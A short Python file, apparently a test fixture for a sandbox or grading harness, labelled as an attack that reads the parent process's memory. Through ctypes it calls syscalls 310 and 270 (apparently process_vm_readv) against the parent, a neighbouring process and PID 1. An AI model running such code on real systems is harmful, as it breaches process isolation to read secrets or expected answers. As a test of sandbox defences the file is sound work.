# Attack: read the memory of the parent by a system call
# Ends: stub
# Says: x.grad[0] is 0.0652997
import os
import sys

ctypes = sys.modules["ctypes"]
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(4096)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
remote = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
for pid in (os.getppid(), os.getppid() - 1, 1):
    for number in (310, 270):
        if libc.syscall(number, pid, local, 1, remote, 1, 0) > 0:
            raise SystemExit("found it")

@WRONG@
